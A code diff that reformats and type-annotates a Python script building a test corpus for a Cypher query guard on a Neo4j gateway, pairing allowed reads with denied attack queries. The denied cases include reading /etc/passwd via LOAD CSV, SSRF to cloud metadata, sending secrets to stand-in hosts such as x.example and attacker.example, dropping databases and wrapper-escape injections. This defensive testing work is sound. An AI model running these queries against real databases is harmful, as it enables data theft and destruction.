@@ -5,15 +5,18 @@ Usage: .venv/bin/python tests/corpus/build_corpus.py [SEED_JSONL]
 The seed's labels were reviewed (see ``relabel``); the script refuses to write
 the corpus if any case does not decide as labelled with the current guard.
 """
+
 import json
 import sys
+from collections.abc import Iterable
 from pathlib import Path
+from typing import Any
 
 REPO = Path(__file__).resolve().parents[2]
 sys.path.insert(0, str(REPO))
 SEED = Path(sys.argv[1]) if len(sys.argv) > 1 else REPO.parent / "shared" / "corpus" / "guard-seed.jsonl"
 seed = [json.loads(line) for line in SEED.read_text().splitlines()]
-out = []
+out: list[dict[str, Any]] = []
 # Reviewed relabels of seed cases: id -> (expect, rule, note)
 relabel = {
     19: ("deny", "pattern.unbounded", "unbounded * inside shortestPath; default policy requires an upper bound"),
@@ -24,9 +27,17 @@ relabel = {
     36: ("deny", "query.prefix", "PROFILE executes the query and changes the result shape"),
     37: ("deny", "query.option", "Neo4j 5.26 speaks Cypher 5; CYPHER 25 is refused"),
     84: ("deny", "parse.failed", "Cypher 25 only (FILTER, LET): the parser does not read Cypher 25 clauses"),
-    38: ("deny", "procedure.not_allowed", "vector index procedures ignore label filters (scope leak family 11); not on the default allow-list"),
+    38: (
+        "deny",
+        "procedure.not_allowed",
+        "vector index procedures ignore label filters (scope leak family 11); not on the default allow-list",
+    ),
     41: ("deny", "procedure.not_allowed", "dbms.* is never on the default allow-list"),
-    82: ("deny", "procedure.not_allowed", "fulltext index procedures ignore label filters; not on the default allow-list"),
+    82: (
+        "deny",
+        "procedure.not_allowed",
+        "fulltext index procedures ignore label filters; not on the default allow-list",
+    ),
     72: ("deny", "statement.multiple", "a request holds exactly one statement, even when every statement is a read"),
     85: ("deny", "input.too_large", "200 KB is over max_query_chars (10,000)"),
     86: ("deny", "input.too_deep", "1,000 nested parentheses is over max_nesting_depth (32)"),
@@ -37,9 +48,27 @@ from gateway.policy import load_policy
 
 POL = {"default": load_policy(), "permissive": load_policy(REPO / "tests/corpus/policies/permissive.yaml")}
 
-def add(query, expect, rule=None, *, label, tags=(), note="", tool="analyze", params=None, policy="default", origin="project"):
-    out.append(dict(id=len(out) + 1, label=label, expect=expect, rule=rule, tool=tool, params=params or {},
-                    policy=policy, tags=list(tags), note=note, origin=origin, query=query))
+
+def add(
+    query: str, expect: str, rule: str | None = None, *, label: str, tags: Iterable[str] = (), note: str = "",
+    tool: str = "analyze", params: dict[str, Any] | None = None, policy: str = "default", origin: str = "project",
+) -> None:  # fmt: skip
+    out.append(
+        dict(
+            id=len(out) + 1,
+            label=label,
+            expect=expect,
+            rule=rule,
+            tool=tool,
+            params=params or {},
+            policy=policy,
+            tags=list(tags),
+            note=note,
+            origin=origin,
+            query=query,
+        )
+    )
+
 
 for d in seed:
     expect, rule, note = d["expect"], None, d.get("note", "")
@@ -60,11 +89,25 @@ for d in seed:
 # The same reads under the permissive test policy: refused by policy above, understood by the parser.
 for sid in (19, 22, 58, 67, 38, 82):
     q = next(d for d in seed if d["id"] == sid)["query"]
-    add(q, "allow", label="READ", tags=["policy-variant"], policy="permissive",
-        note=f"seed {sid} under a policy that allows it: the parser reads it", origin=f"seed:{sid}",
-        params={"embedding": [0.1, 0.2]} if sid == 38 else None)
-add("RETURN " + "(" * 1000 + "1" + ")" * 1000, "deny", "input.too_deep", label="NESTING", tags=["deep-parens", "recursion"],
-    policy="permissive", note="within the policy's bracket limit but deeper than the Python stack: a clean rejection, no RecursionError")
+    add(
+        q,
+        "allow",
+        label="READ",
+        tags=["policy-variant"],
+        policy="permissive",
+        note=f"seed {sid} under a policy that allows it: the parser reads it",
+        origin=f"seed:{sid}",
+        params={"embedding": [0.1, 0.2]} if sid == 38 else None,
+    )
+add(
+    "RETURN " + "(" * 1000 + "1" + ")" * 1000,
+    "deny",
+    "input.too_deep",
+    label="NESTING",
+    tags=["deep-parens", "recursion"],
+    policy="permissive",
+    note="within the policy's bracket limit but deeper than the Python stack: a clean rejection, no RecursionError",
+)
 
 R = "READ"
 # ---------------------------------------------------------------- legitimate reads
@@ -77,28 +120,49 @@ reads = [
     ("MATCH (a)((x)-[:R]->(y)){0,4}(b) RETURN count(*)", ["qpp"]),
     ("MATCH ANY SHORTEST (a:Station {name: 'A'})-[:LINK]-{1,5}(b:Station {name: 'B'}) RETURN b", ["gql-shortest"]),
     ("MATCH p = SHORTEST 2 (a)-[:R]->{1,4}(b) RETURN p", ["gql-shortest"]),
-    ("MATCH (n) WHERE n.createdAt > $since AND n.settings IS NOT NULL AND n.deleted = false RETURN n.createdAt, n.settings, n.deleted", ["keyword-like-props", "params"]),
+    (
+        "MATCH (n) WHERE n.createdAt > $since AND n.settings IS NOT NULL AND n.deleted = false RETURN n.createdAt, n.settings, n.deleted",
+        ["keyword-like-props", "params"],
+    ),
     ("MATCH (n:Match {return: 1}) RETURN n.with AS with, n.union AS union", ["keyword-props", "keyword-labels"]),
     ("MATCH (n) RETURN n.count AS count, n.call AS call, n.load AS load", ["keyword-props"]),
     ("MATCH (n:`Label with space`) RETURN n.`prop with space` AS `a b`", ["backticks"]),
     ("MATCH (`weird var`) RETURN `weird var`", ["backtick-variable"]),
     ("RETURN count { MATCH (n) RETURN n } AS c", ["count-subquery", "full-body"]),
     ("MATCH (n:Person) RETURN n.name, COUNT { (n)-[:KNOWS]->() WHERE n.age > 1 } AS c", ["count-subquery", "where"]),
-    ("MATCH (n) WHERE EXISTS { MATCH (n)-->(m) WHERE m.x = 1 } AND NOT EXISTS { (n)-[:BLOCKED]->() } RETURN n", ["exists-subquery"]),
-    ("MATCH (n) WHERE EXISTS { MATCH (n)-->(m) RETURN m UNION MATCH (n)<--(m) RETURN m } RETURN n", ["exists-subquery", "union"]),
-    ("MATCH (n) RETURN n { .name, friends: COLLECT { MATCH (n)-->(f) RETURN f.name } } AS card", ["map-projection", "collect-subquery"]),
+    (
+        "MATCH (n) WHERE EXISTS { MATCH (n)-->(m) WHERE m.x = 1 } AND NOT EXISTS { (n)-[:BLOCKED]->() } RETURN n",
+        ["exists-subquery"],
+    ),
+    (
+        "MATCH (n) WHERE EXISTS { MATCH (n)-->(m) RETURN m UNION MATCH (n)<--(m) RETURN m } RETURN n",
+        ["exists-subquery", "union"],
+    ),
+    (
+        "MATCH (n) RETURN n { .name, friends: COLLECT { MATCH (n)-->(f) RETURN f.name } } AS card",
+        ["map-projection", "collect-subquery"],
+    ),
     ("MATCH (n) WITH n { .*, extra: 1 } AS m RETURN m", ["map-projection"]),
     ("MATCH (n) WITH n, 1 AS x RETURN n { .name, x } AS m", ["map-projection", "variable-item"]),
     ("MATCH (n) WHERE (n)-[:KNOWS]->(:Person) RETURN n", ["pattern-predicate"]),
     ("MATCH (n) WHERE NOT (n)<-[:BLOCKED]-() RETURN n", ["pattern-predicate"]),
     ("MATCH (n) RETURN size([(n)-->(m) | m]) AS degree", ["pattern-comprehension"]),
     ("MATCH (n) RETURN [p = (n)-[:R]->() | length(p)] AS lens", ["pattern-comprehension", "path-variable"]),
-    ("MATCH (n) RETURN n.x IS :: STRING NOT NULL AS s, n.y IS NOT :: LIST<INTEGER> AS l, n.z IS TYPED INTEGER | FLOAT AS num", ["type-predicate"]),
+    (
+        "MATCH (n) RETURN n.x IS :: STRING NOT NULL AS s, n.y IS NOT :: LIST<INTEGER> AS l, n.z IS TYPED INTEGER | FLOAT AS num",
+        ["type-predicate"],
+    ),
     ("MATCH (n) RETURN CASE n.x WHEN 1 THEN 'a' END AS c", ["case-simple"]),
-    ("MATCH (n) WHERE n.name STARTS WITH $p OR n.name ENDS WITH $s OR n.name CONTAINS 'z' RETURN n", ["string-ops", "params"]),
+    (
+        "MATCH (n) WHERE n.name STARTS WITH $p OR n.name ENDS WITH $s OR n.name CONTAINS 'z' RETURN n",
+        ["string-ops", "params"],
+    ),
     ("MATCH (a)-[r]->(b) WHERE type(r) IN ['KNOWS'] RETURN a, b LIMIT 5", ["in-list"]),
     ("WITH [1, 2, 3] AS l RETURN l[-1] AS last, l[1..] AS tail, l[..2] AS head, l[0..2] AS mid", ["slices"]),
-    ("RETURN 0o17 AS o, 1_000_000 AS m, .5 AS h, 1e-3 AS e, -1 AS neg, +2 AS pos, 2 ^ 3 AS p, 7 % 2 AS r", ["literals"]),
+    (
+        "RETURN 0o17 AS o, 1_000_000 AS m, .5 AS h, 1e-3 AS e, -1 AS neg, +2 AS pos, 2 ^ 3 AS p, 7 % 2 AS r",
+        ["literals"],
+    ),
     ("MATCH (n) RETURN n // comment with MATCH (m) DETACH DELETE m", ["comment-with-write"]),
     ("MATCH (n)\n\tWHERE n.x = 1\n\tRETURN n\n", ["newlines", "tabs"]),
     ("match (n) where exists { match (n)-->() } return count(*)", ["lowercase", "exists-subquery"]),
@@ -131,10 +195,13 @@ reads = [
     ("MATCH (n:Person) USING SCAN n:Person RETURN n", ["hint"]),
     ("MATCH (a)-->(b) USING JOIN ON b RETURN a, b", ["hint"]),
     ("MATCH (n) RETURN n.name =~ '(?i)al.*' AS m", ["regex"]),
-    ("RETURN \"it's \\\"quoted\\\" MATCH\" AS s", ["string-escapes"]),
+    ('RETURN "it\'s \\"quoted\\" MATCH" AS s', ["string-escapes"]),
     ("RETURN 'a /* not a comment */ b' AS s, \"// not a comment\" AS t", ["comment-chars-in-string"]),
     ("MATCH (n) /* a block\ncomment over lines */ RETURN n", ["comment", "multiline"]),
-    ("MATCH (n) WHERE all(x IN n.tags WHERE x STARTS WITH 'a') AND single(y IN n.tags WHERE y = 'b') RETURN n", ["list-predicates"]),
+    (
+        "MATCH (n) WHERE all(x IN n.tags WHERE x STARTS WITH 'a') AND single(y IN n.tags WHERE y = 'b') RETURN n",
+        ["list-predicates"],
+    ),
     ("MATCH (n) RETURN reduce(acc = '', s IN n.parts | acc + s) AS joined", ["reduce"]),
     ("MATCH (n) RETURN CASE WHEN n.a THEN CASE WHEN n.b THEN 1 ELSE 2 END ELSE 3 END AS nested", ["case", "nested"]),
     ("MATCH (set:Person), (create:Company) RETURN set.name, create.name", ["keyword-variables"]),
@@ -142,7 +209,10 @@ reads = [
     ("MATCH (n) WHERE n.x <> 1 RETURN n", ["inequality"]),
     ("MATCH (n) RETURN n.a < n.b <= n.c AS chained", ["chained-comparison"]),
     ("MATCH (n) RETURN n.x IS NULL AS a, NOT n.y IS NOT NULL AS b", ["null-predicates"]),
-    ("MATCH (n) RETURN apoc.text.join(['a'], ',') AS j, apoc.coll.sum([1, 2]) AS s, apoc.map.merge({}, {}) AS m", ["apoc-pure-functions"]),
+    (
+        "MATCH (n) RETURN apoc.text.join(['a'], ',') AS j, apoc.coll.sum([1, 2]) AS s, apoc.map.merge({}, {}) AS m",
+        ["apoc-pure-functions"],
+    ),
     ("MATCH (n) RETURN elementId(n) AS id, labels(n) AS ls, keys(n) AS ks, properties(n) AS ps", ["functions"]),
     ("RETURN vector.similarity.euclidean([1.0, 2.0], [2.0, 1.0]) AS d", ["namespaced-function"]),
     ("MATCH (n) RETURN n ORDER BY n.x DESCENDING, n.y ASCENDING", ["orderby"]),
@@ -157,19 +227,61 @@ for q, tags in reads:
 
 # recall needs $repository and $taskId
 rp = {"repository": "acme/api", "taskId": "T-1"}
-add("MATCH (t:Task {repository: $repository, id: $taskId})-[:HAS_STEP]->(s) RETURN s ORDER BY s.at", "allow", label=R,
-    tool="recall", params=rp, tags=["recall", "required-params"])
-add("MATCH (t:Task) WHERE t.repository = $repository AND t.id = $taskId RETURN t UNION MATCH (t:Task {repository: $repository, id: $taskId})<-[:ABOUT]-(n) RETURN n AS t",
-    "allow", label=R, tool="recall", params=rp, tags=["recall", "union"])
-add("MATCH (t:Task {repository: $repository}) RETURN t", "deny", "param.required", label="REQUIRED-PARAM", tool="recall",
-    params={"repository": "x"}, tags=["recall", "missing-reference"], note="recall must reference $taskId")
-add("MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t", "deny", "param.required", label="REQUIRED-PARAM",
-    tool="recall", params={"repository": "x"}, tags=["recall", "missing-value"], note="referenced but not supplied")
-add("MATCH (t:Task {repository: $repository, id: $taskId}) CALL db.labels() YIELD label RETURN label", "deny",
-    "clause.not_allowed", label="PROCEDURE", tool="recall", params=rp, tags=["recall", "procedure"],
-    note="recall allows no procedure calls at all")
-add("MATCH (t:Task {repository: $repository, id: $taskId})-[:SUPERSEDES]->(old) RETURN old", "deny",
-    "relationship.denied", label="SCOPE", tool="recall", params=rp, tags=["recall", "bookkeeping"])
+add(
+    "MATCH (t:Task {repository: $repository, id: $taskId})-[:HAS_STEP]->(s) RETURN s ORDER BY s.at",
+    "allow",
+    label=R,
+    tool="recall",
+    params=rp,
+    tags=["recall", "required-params"],
+)
+add(
+    "MATCH (t:Task) WHERE t.repository = $repository AND t.id = $taskId RETURN t UNION MATCH (t:Task {repository: $repository, id: $taskId})<-[:ABOUT]-(n) RETURN n AS t",
+    "allow",
+    label=R,
+    tool="recall",
+    params=rp,
+    tags=["recall", "union"],
+)
+add(
+    "MATCH (t:Task {repository: $repository}) RETURN t",
+    "deny",
+    "param.required",
+    label="REQUIRED-PARAM",
+    tool="recall",
+    params={"repository": "x"},
+    tags=["recall", "missing-reference"],
+    note="recall must reference $taskId",
+)
+add(
+    "MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t",
+    "deny",
+    "param.required",
+    label="REQUIRED-PARAM",
+    tool="recall",
+    params={"repository": "x"},
+    tags=["recall", "missing-value"],
+    note="referenced but not supplied",
+)
+add(
+    "MATCH (t:Task {repository: $repository, id: $taskId}) CALL db.labels() YIELD label RETURN label",
+    "deny",
+    "clause.not_allowed",
+    label="PROCEDURE",
+    tool="recall",
+    params=rp,
+    tags=["recall", "procedure"],
+    note="recall allows no procedure calls at all",
+)
+add(
+    "MATCH (t:Task {repository: $repository, id: $taskId})-[:SUPERSEDES]->(old) RETURN old",
+    "deny",
+    "relationship.denied",
+    label="SCOPE",
+    tool="recall",
+    params=rp,
+    tags=["recall", "bookkeeping"],
+)
 
 # ---------------------------------------------------------------- attacks
 W = "WRITE"
@@ -183,15 +295,21 @@ writes = [
     ("MATCH (n)/**/SET/**/n.x=1", ["comment-separator", "set"]),
     ("MATCH (n)SET n.x=1", ["no-space", "set"]),
     ("insert (n:X)", ["gql-insert", "lowercase"]),
-    ("MATCH (n) WITH n CALL { WITH n CALL { WITH n CALL { WITH n REMOVE n.x } } } RETURN n", ["nested-subquery", "remove"]),
+    (
+        "MATCH (n) WITH n CALL { WITH n CALL { WITH n CALL { WITH n REMOVE n.x } } } RETURN n",
+        ["nested-subquery", "remove"],
+    ),
     ("MATCH (a), (b) MERGE (a)-[:R]->(b)", ["merge-rel"]),
     ("OPTIONAL MATCH (n) WITH n WHERE n IS NULL CREATE (:Fallback)", ["optional-match", "create"]),
     ("UNWIND [1, 2] AS x CREATE (:N {x: x})", ["unwind", "create"]),
     ("MATCH (n) RETURN [(n)-->(m) | m] AS ms UNION MATCH (n) DELETE n RETURN [] AS ms", ["union", "delete"]),
     ("CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN n", ["in-transactions", "read-body"]),
-    ("MATCH (n) CALL (n) { RETURN n.x AS x } IN 2 CONCURRENT TRANSACTIONS OF 10 ROWS RETURN x", ["in-transactions", "concurrent"]),
+    (
+        "MATCH (n) CALL (n) { RETURN n.x AS x } IN 2 CONCURRENT TRANSACTIONS OF 10 ROWS RETURN x",
+        ["in-transactions", "concurrent"],
+    ),
     ("MATCH (n) WHERE n.x = 'a\\\\' SET n.y = 1 //'", ["escape-trap", "set"]),
-    ("MATCH (n) RETURN \"\\\\\" AS s CREATE (x:Evil) //\"", ["escape-trap", "double-quote"]),
+    ('MATCH (n) RETURN "\\\\" AS s CREATE (x:Evil) //"', ["escape-trap", "double-quote"]),
     ("MATCH (n) /* /* */ CREATE (x) */", ["nested-comment-trap"]),
     ("MATCH (n) WHERE n.a = 1 MERGE (m {id: n.id}) ON MATCH SET m.seen = true RETURN m", ["merge", "on-match"]),
     ("MATCH (n:Person) SET n:`Admin`", ["set-label", "backticks"]),
@@ -203,29 +321,88 @@ for q, tags in writes:
     add(q, "deny", rule, label=W, tags=tags)
 
 admin = [
-    "CREATE OR REPLACE DATABASE evil", "CREATE RANGE INDEX r FOR (n:P) ON (n.x)", "CREATE FULLTEXT INDEX f FOR (n:P) ON EACH [n.x]",
-    "CREATE VECTOR INDEX v FOR (n:P) ON n.e", "CREATE TEXT INDEX t FOR (n:P) ON (n.x)", "DROP DATABASE neo4j",
-    "SHOW TRANSACTIONS", "SHOW CURRENT USER", "SHOW SETTINGS YIELD name, value", "SHOW FUNCTIONS", "REVOKE ROLE admin FROM bob",
-    "DENY READ {*} ON GRAPH * TO reader", "CREATE ROLE hacker", "START DATABASE neo4j", "ALTER DATABASE neo4j SET ACCESS READ WRITE",
-    "CREATE ALIAS a FOR DATABASE neo4j", "RENAME USER bob TO mallory", "ENABLE SERVER 'x'", "DEALLOCATE DATABASES FROM SERVER 'x'",
-    "show users", "CREATE CONSTRAINT c IF NOT EXISTS FOR ()-[r:R]-() REQUIRE r.x IS NOT NULL", "CREATE LOOKUP INDEX l FOR (n) ON EACH labels(n)",
+    "CREATE OR REPLACE DATABASE evil",
+    "CREATE RANGE INDEX r FOR (n:P) ON (n.x)",
+    "CREATE FULLTEXT INDEX f FOR (n:P) ON EACH [n.x]",
+    "CREATE VECTOR INDEX v FOR (n:P) ON n.e",
+    "CREATE TEXT INDEX t FOR (n:P) ON (n.x)",
+    "DROP DATABASE neo4j",
+    "SHOW TRANSACTIONS",
+    "SHOW CURRENT USER",
+    "SHOW SETTINGS YIELD name, value",
+    "SHOW FUNCTIONS",
+    "REVOKE ROLE admin FROM bob",
+    "DENY READ {*} ON GRAPH * TO reader",
+    "CREATE ROLE hacker",
+    "START DATABASE neo4j",
+    "ALTER DATABASE neo4j SET ACCESS READ WRITE",
+    "CREATE ALIAS a FOR DATABASE neo4j",
+    "RENAME USER bob TO mallory",
+    "ENABLE SERVER 'x'",
+    "DEALLOCATE DATABASES FROM SERVER 'x'",
+    "show users",
+    "CREATE CONSTRAINT c IF NOT EXISTS FOR ()-[r:R]-() REQUIRE r.x IS NOT NULL",
+    "CREATE LOOKUP INDEX l FOR (n) ON EACH labels(n)",
     "TERMINATE TRANSACTION 'neo4j-transaction-7'",
 ]
 for q in admin:
     add(q, "deny", "admin.command", label="ADMIN", tags=["admin"])
-add("USE neo4j MATCH (n) RETURN n", "deny", "database.use", label="ADMIN", tags=["use"], note="even the configured database: the gateway pins it, not the caller")
+add(
+    "USE neo4j MATCH (n) RETURN n",
+    "deny",
+    "database.use",
+    label="ADMIN",
+    tags=["use"],
+    note="even the configured database: the gateway pins it, not the caller",
+)
 add("USE graph.byName('system') MATCH (n) RETURN n", "deny", "database.use", label="ADMIN", tags=["use", "dynamic"])
-add("MATCH (n) CALL { USE system MATCH (m) RETURN m } RETURN n, m", "deny", "database.use", label="ADMIN", tags=["use", "subquery"])
-add("CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "subquery"])
-add("LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS l FIELDTERMINATOR ';' RETURN l", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "ssrf"])
-add("MATCH (s:Secret) LOAD CSV FROM 'https://x.example/?d=' + s.value AS l RETURN 1", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "exfiltration"])
-add("MATCH (n) WHERE EXISTS { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN n", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "exists"])
+add(
+    "MATCH (n) CALL { USE system MATCH (m) RETURN m } RETURN n, m",
+    "deny",
+    "database.use",
+    label="ADMIN",
+    tags=["use", "subquery"],
+)
+add(
+    "CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l",
+    "deny",
+    "load_csv",
+    label="FILE-ACCESS",
+    tags=["load-csv", "subquery"],
+)
+add(
+    "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS l FIELDTERMINATOR ';' RETURN l",
+    "deny",
+    "load_csv",
+    label="FILE-ACCESS",
+    tags=["load-csv", "ssrf"],
+)
+add(
+    "MATCH (s:Secret) LOAD CSV FROM 'https://x.example/?d=' + s.value AS l RETURN 1",
+    "deny",
+    "load_csv",
+    label="FILE-ACCESS",
+    tags=["load-csv", "exfiltration"],
+)
+add(
+    "MATCH (n) WHERE EXISTS { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN n",
+    "deny",
+    "load_csv",
+    label="FILE-ACCESS",
+    tags=["load-csv", "exists"],
+)
 
 P = "PROCEDURE"
 procs = [
     ("CALL /*x*/ apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})", ["comment-in-name"]),
-    ("CALL apoc./*x*/periodic . iterate('MATCH (n) RETURN n', 'SET n.x = 1', {})", ["comment-in-name", "whitespace-in-name"]),
-    ("CALL `apoc`.`load`.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value", ["backtick-namespace", "ssrf"]),
+    (
+        "CALL apoc./*x*/periodic . iterate('MATCH (n) RETURN n', 'SET n.x = 1', {})",
+        ["comment-in-name", "whitespace-in-name"],
+    ),
+    (
+        "CALL `apoc`.`load`.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value",
+        ["backtick-namespace", "ssrf"],
+    ),
     ("CALL `apoc.load.json`('file:///etc/passwd') YIELD value RETURN value", ["single-backticked-name"]),
     ("CALL APOC.LOAD.JSON('file:///etc/passwd') YIELD value RETURN value", ["uppercase"]),
     ("CALL apoc.load.jsonParams('http://x', {}, null) YIELD value RETURN value", ["apoc-load"]),
@@ -240,7 +417,10 @@ procs = [
     ("CALL db.schema.visualization()", ["scope-leak"]),
     ("CALL dbms.listConfig", ["dbms", "no-parens"]),
     ("CALL db.labels() YIELD label CALL apoc.load.json(label) YIELD value RETURN value", ["second-call"]),
-    ("MATCH (n) WHERE EXISTS { CALL apoc.load.json('file:///x') YIELD value RETURN value } RETURN n", ["exists", "apoc-load"]),
+    (
+        "MATCH (n) WHERE EXISTS { CALL apoc.load.json('file:///x') YIELD value RETURN value } RETURN n",
+        ["exists", "apoc-load"],
+    ),
     ("RETURN COLLECT { CALL apoc.util.sleep(100000) RETURN 1 } AS l", ["collect", "sleep"]),
     ("CALL apoc.util.sleep(60000)", ["resource"]),
     ("CALL db.index.fulltext.queryNodes('idx', 'secret') YIELD node RETURN node", ["scope-leak", "fulltext"]),
@@ -268,21 +448,64 @@ funcs = [
     ("RETURN apoc.case([true, 'CREATE (n)'], '', {}) AS c", ["dynamic-cypher"]),
     ("RETURN db.nameFromElementId('4:x:1') AS n", ["db-function"]),
     ("RETURN apoc.load.json('http://x') AS v", ["apoc-load-function"]),
-    ("MATCH (s:Secret) RETURN genai.vector.encode(s.value, 'OpenAI', {token: 'x', endpoint: 'https://attacker.example/'}) AS v", ["genai", "exfiltration"]),
+    (
+        "MATCH (s:Secret) RETURN genai.vector.encode(s.value, 'OpenAI', {token: 'x', endpoint: 'https://attacker.example/'}) AS v",
+        ["genai", "exfiltration"],
+    ),
     ("MATCH (s:Secret) RETURN ai.text.embed(s.value, 'OpenAI', {}) AS v", ["genai", "exfiltration"]),
 ]
 for q, tags in funcs:
     add(q, "deny", "function.denied", label=P, tags=tags)
 
 # reserved parameters
-add("MATCH (n) WHERE n.x IN $__gw_scope RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["reference"],
-    note="the query may not read the gateway's own scope parameter")
-add("MATCH (n) WHERE n.x IN $`__gw_scope` RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["reference", "backtick-param"])
-add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied"], params={"__gw_scope": ["all"]})
-add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied", "case"], params={"__GW_SCOPE": ["all"]})
-add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied", "mentis-prefix"], params={"__mentis_layers": ["x"]})
-add("MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t", "deny", "param.reserved", label="RESERVED-PARAM",
-    tool="recall", params={**rp, "__gw_scope": ["all"]}, tags=["supplied", "recall"])
+add(
+    "MATCH (n) WHERE n.x IN $__gw_scope RETURN n",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tags=["reference"],
+    note="the query may not read the gateway's own scope parameter",
+)
+add(
+    "MATCH (n) WHERE n.x IN $`__gw_scope` RETURN n",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tags=["reference", "backtick-param"],
+)
+add(
+    "MATCH (n) RETURN n",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tags=["supplied"],
+    params={"__gw_scope": ["all"]},
+)
+add(
+    "MATCH (n) RETURN n",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tags=["supplied", "case"],
+    params={"__GW_SCOPE": ["all"]},
+)
+add(
+    "MATCH (n) RETURN n",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tags=["supplied", "mentis-prefix"],
+    params={"__mentis_layers": ["x"]},
+)
+add(
+    "MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t",
+    "deny",
+    "param.reserved",
+    label="RESERVED-PARAM",
+    tool="recall",
+    params={**rp, "__gw_scope": ["all"]},
+    tags=["supplied", "recall"],
+)
 
 # bookkeeping edges and traversal bounds
 S = "SCOPE"
@@ -311,59 +534,186 @@ for q, rule, tags in [
     add(q, "deny", rule, label="RESOURCE", tags=tags)
 
 # size, nesting, recursion
-add("RETURN " + "(" * 33 + "1" + ")" * 33, "deny", "input.too_deep", label="NESTING", tags=["deep-parens"], note="one over the limit")
+add(
+    "RETURN " + "(" * 33 + "1" + ")" * 33,
+    "deny",
+    "input.too_deep",
+    label="NESTING",
+    tags=["deep-parens"],
+    note="one over the limit",
+)
 add("RETURN " + "(" * 32 + "1" + ")" * 32, "allow", None, label=R, tags=["deep-parens"], note="exactly at the limit")
 add("RETURN " + "NOT " * 500 + "true", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
 add("RETURN " + "- " * 1000 + "1", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
-add("RETURN " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60, "deny", "input.too_deep", label="NESTING", tags=["case-nesting"])
-add("MATCH (n) WHERE " + " AND ".join(f"n.p{i} = {i}" for i in range(1200)) + " RETURN n", "deny", "input.too_large",
-    label="SIZE", tags=["size"], note="just over 10,000 characters")
-add("MATCH (n) RETURN " + ", ".join(f"n.p{i} AS c{i}" for i in range(600)), "allow", None, label=R, tags=["size"], note="about 9 KB, flat: allowed")
-add("MATCH (n) " + "CALL { " * 40 + "RETURN 1 AS x" + " }" * 40 + " RETURN x", "deny", "input.too_deep", label="NESTING", tags=["subquery-nesting"])
+add(
+    "RETURN " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60,
+    "deny",
+    "input.too_deep",
+    label="NESTING",
+    tags=["case-nesting"],
+)
+add(
+    "MATCH (n) WHERE " + " AND ".join(f"n.p{i} = {i}" for i in range(1200)) + " RETURN n",
+    "deny",
+    "input.too_large",
+    label="SIZE",
+    tags=["size"],
+    note="just over 10,000 characters",
+)
+add(
+    "MATCH (n) RETURN " + ", ".join(f"n.p{i} AS c{i}" for i in range(600)),
+    "allow",
+    None,
+    label=R,
+    tags=["size"],
+    note="about 9 KB, flat: allowed",
+)
+add(
+    "MATCH (n) " + "CALL { " * 40 + "RETURN 1 AS x" + " }" * 40 + " RETURN x",
+    "deny",
+    "input.too_deep",
+    label="NESTING",
+    tags=["subquery-nesting"],
+)
 
 # multiple statements, wrapper escapes, malformed
 add("RETURN 1; RETURN 2", "deny", "statement.multiple", label="MULTI", tags=["multi-statement"])
-add("MATCH (n) RETURN n } UNION ALL CALL { MATCH (m) DETACH DELETE m RETURN m", "deny", "parse.failed", label=W,
-    tags=["wrapper-escape"], note="family 8: closes a CALL { … } LIMIT wrapper early; unbalanced on its own")
+add(
+    "MATCH (n) RETURN n } UNION ALL CALL { MATCH (m) DETACH DELETE m RETURN m",
+    "deny",
+    "parse.failed",
+    label=W,
+    tags=["wrapper-escape"],
+    note="family 8: closes a CALL { … } LIMIT wrapper early; unbalanced on its own",
+)
 add("RETURN 1 AS x } CALL { CREATE (p:Pwned) RETURN p", "deny", "parse.failed", label=W, tags=["wrapper-escape"])
 add("RETURN 1 AS x }", "deny", "parse.failed", label="MALFORMED", tags=["wrapper-escape"])
 add("MATCH (n) RETURN n LIMIT", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
 add("{}", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
 add("MATCH (n) RETURN n 🙂", "deny", "parse.failed", label="MALFORMED", tags=["unknown-char"])
-add("MATCH (n) RETURN n // x\u2028 SET n.x = 1", "deny", "parse.failed", label=W, tags=["line-separator-comment"],
-    note="if Neo4j ended // comments at U+2028 the SET would be live; refused either way")
-add("MATCH (n) RETURN 'unterminated \\'", "deny", "parse.failed", label="MALFORMED", tags=["unterminated-string", "escape"])
+add(
+    "MATCH (n) RETURN n // x\u2028 SET n.x = 1",
+    "deny",
+    "parse.failed",
+    label=W,
+    tags=["line-separator-comment"],
+    note="if Neo4j ended // comments at U+2028 the SET would be live; refused either way",
+)
+add(
+    "MATCH (n) RETURN 'unterminated \\'",
+    "deny",
+    "parse.failed",
+    label="MALFORMED",
+    tags=["unterminated-string", "escape"],
+)
